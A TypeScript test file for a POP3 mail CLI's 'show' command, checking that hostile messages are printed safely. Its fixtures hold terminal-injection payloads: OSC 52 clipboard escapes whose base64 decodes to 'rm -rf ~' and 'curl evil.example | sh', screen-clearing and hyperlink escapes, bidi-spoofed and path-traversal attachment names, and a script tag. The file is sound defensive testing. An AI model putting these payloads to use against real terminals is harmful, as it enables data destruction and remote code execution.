// `pop3-mail show` through the built CLI, on mail fetched from a real Dovecot:
// it prints the editor's view model (same parser), the security line of the
// fetch, and, in text mode, nothing a terminal would obey.

import assert from 'node:assert/strict';
import { spawnSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, before, test } from 'node:test';
import { parseMessageView } from '../../src/mail/view';
import { startDovecot, type Dovecot } from '../support/dovecot';

const CLI = path.resolve(__dirname, '../../dist/cli.js');
const ESC = '\x1b';
// eslint-disable-next-line no-control-regex -- finding control characters is the point
const UNSAFE = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;

const HOSTILE = Buffer.from(
  [
    `From: "Support${ESC}]52;c;cm0gLXJmIH4K\x07" <support@bank.example>`,
    'To: alice@example.com',
    'Cc: "Bob" <bob@example.com>',
    'Date: Wed, 2 Dec 2026 09:30:00 +0100',
    `Subject: =?utf-8?b?${Buffer.from(`Invoice \u202efdp.exe ${ESC}[2J`).toString('base64')}?=`,
    'MIME-Version: 1.0',
    'Content-Type: multipart/mixed; boundary="m"',
    '',
    '--m',
    'Content-Type: text/plain; charset=utf-8',
    '',
    `Dear customer,${ESC}]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07`,
    `${ESC}[2J${ESC}[Hyour statement is attached.\u009b31m`,
    `${ESC}]8;;https://evil.example/${ESC}\\Click here${ESC}]8;;${ESC}\\`,
    '--m',
    'Content-Type: application/pdf; name="statement.pdf"',
    'Content-Disposition: attachment; filename="../statement\u202Efdp.exe"',
    'Content-Transfer-Encoding: base64',
    '',
    Buffer.from('%PDF-1.4 not really').toString('base64'),
    '--m--',
    '',
  ].join('\r\n'),
);

const HTML_ONLY = Buffer.from(
  [
    'From: News <news@example.org>',
    'To: alice@example.com',
    'Date: Thu, 3 Dec 2026 08:00:00 +0000',
    'Subject: HTML only',
    'Content-Type: text/html; charset=utf-8',
    '',
    '<html><head><style>p{}</style></head><body><h1>Big news</h1><p>Caf&eacute; &amp; more <b>today</b></p><script>steal()</script></body></html>',
    '',
  ].join('\r\n'),
);

let dovecot: Dovecot;
let work: string;
let store: string;

function cli(args: string[]): { status: number | null; stdout: string; stderr: string } {
  const r = spawnSync(process.execPath, [CLI, ...args], { env: { ...process.env, POP3_PASSWORD: 's3cret' }, encoding: 'utf8', timeout: 120_000 });
  return { status: r.status, stdout: r.stdout, stderr: r.stderr };
}

before(async () => {
  assert.ok(fs.existsSync(CLI), `build first: ${CLI} is missing`);
  dovecot = await startDovecot();
  work = fs.mkdtempSync(path.join(os.tmpdir(), 'pop3-mail-show-'));
  store = path.join(work, 'store');
  dovecot.deliver('alice', HOSTILE, 'msg0001');
  dovecot.deliver('alice', HTML_ONLY, 'msg0002');
  dovecot.deliver('alice', fs.readFileSync(path.resolve(__dirname, '../fixtures/view/40-bomb.eml')), 'msg0003');
  const r = cli(['fetch', '--host', 'localhost', '--port', String(dovecot.pop3sPort), '--user', 'alice', '--ca', dovecot.caFile, '--store', store, '--json']);
  assert.equal(r.status, 0, r.stderr);
});

after(async () => {
  await dovecot?.stop();
  if (work) fs.rmSync(work, { recursive: true, force: true });
});

function idOf(subjectStart: string): string {
  const rows = JSON.parse(cli(['list', '--store', store, '--json']).stdout) as { id: string; subject: string }[];
  const row = rows.find((x) => x.subject.startsWith(subjectStart));
  assert.ok(row, `${subjectStart} is listed`);
  return row.id;
}

test('show --json is the view model of the editor\'s parser, plus the security line of the fetch', () => {
  const r = cli(['show', idOf('Invoice'), '--store', store, '--json']);
  assert.equal(r.status, 0, r.stderr);
  const shown = JSON.parse(r.stdout) as Record<string, unknown>;
  const view = parseMessageView('x', HOSTILE).view;
  assert.equal(shown['subject'], view.subject);
  assert.deepEqual(shown['from'], view.from);
  assert.equal((shown['from'] as { address: string }).address, 'support@bank.example');
  assert.equal(shown['to'], view.to);
  assert.equal(shown['cc'], 'Bob <bob@example.com>');
  assert.equal(shown['date'], '2026-12-02T08:30:00.000Z');
  assert.deepEqual(shown['body'], view.body);
  assert.deepEqual(
    (shown['attachments'] as { name: string; size: number }[]).map((a) => [a.name, a.size]),
    view.attachments.map((a) => [a.name, a.size]),
  );
  assert.equal((shown['attachments'] as { size: number }[])[0]!.size, '%PDF-1.4 not really'.length);
  assert.equal(shown['security'], 'Fetched over TLS (POP3S), certificate verified with your CA file');
  // eslint-disable-next-line no-control-regex -- the point
  assert.ok(!/[\u0000-\u001f]/.test(r.stdout.trimEnd()), 'JSON escapes every control character');
});

test('show in text mode prints headers, text and attachments with no escape sequence, control or bidi character', () => {
  const r = cli(['show', idOf('Invoice'), '--store', store]);
  assert.equal(r.status, 0, r.stderr);
  const out = r.stdout;
  assert.ok(!UNSAFE.test(out), JSON.stringify(out));
  assert.match(out, /^From: Support \]52;c;cm0gLXJmIH4K <support@bank\.example>$/m);
  assert.match(out, /^To: alice@example\.com$/m);
  assert.match(out, /^Cc: Bob <bob@example\.com>$/m);
  assert.match(out, /^Date: 2026-12-02T08:30:00\.000Z$/m);
  assert.match(out, /^Subject: Invoice fdp\.exe \[2J$/m);
  assert.match(out, /^Security: Fetched over TLS \(POP3S\), certificate verified with your CA file$/m);
  assert.match(out, /^Dear customer,\nyour statement is attached\.\nClick here$/m);
  assert.match(out, /^\[attachment 0\] \S+ \(application\/pdf, 19 bytes\)$/m);
  assert.ok(!out.includes('52;c;Y3Vy'), 'the OSC 52 payload of the body is gone');
});

test('an HTML-only message is printed as its text', () => {
  const r = cli(['show', idOf('HTML only'), '--store', store]);
  assert.equal(r.status, 0, r.stderr);
  assert.match(r.stdout, /\[HTML message shown as text\]\nBig news\n\nCafé & more today\n/);
  const body = r.stdout.slice(r.stdout.indexOf('[HTML message'));
  assert.ok(!body.includes('steal()') && !body.includes('<') && !body.includes('p{}'), body);
  const json = JSON.parse(cli(['show', idOf('HTML only'), '--store', store, '--json']).stdout) as { textFrom: string; text: string };
  assert.equal(json.textFrom, 'html');
  assert.equal(json.text, 'Big news\n\nCafé & more today');
});

test('a message the parser refuses (a MIME bomb) is one clear line on stderr and exit code 1, in both modes', () => {
  const id = idOf('Bomb:');
  for (const json of [false, true]) {
    const r = cli(['show', id, '--store', store, ...(json ? ['--json'] : [])]);
    assert.equal(r.status, 1);
    assert.equal(r.stdout, '');
    assert.match(r.stderr, /MIME bomb/);
    assert.equal(r.stderr.trimEnd().split('\n').length, 1, r.stderr);
    if (json) assert.equal((JSON.parse(r.stderr) as { error: string }).error, 'Error');
  }
});
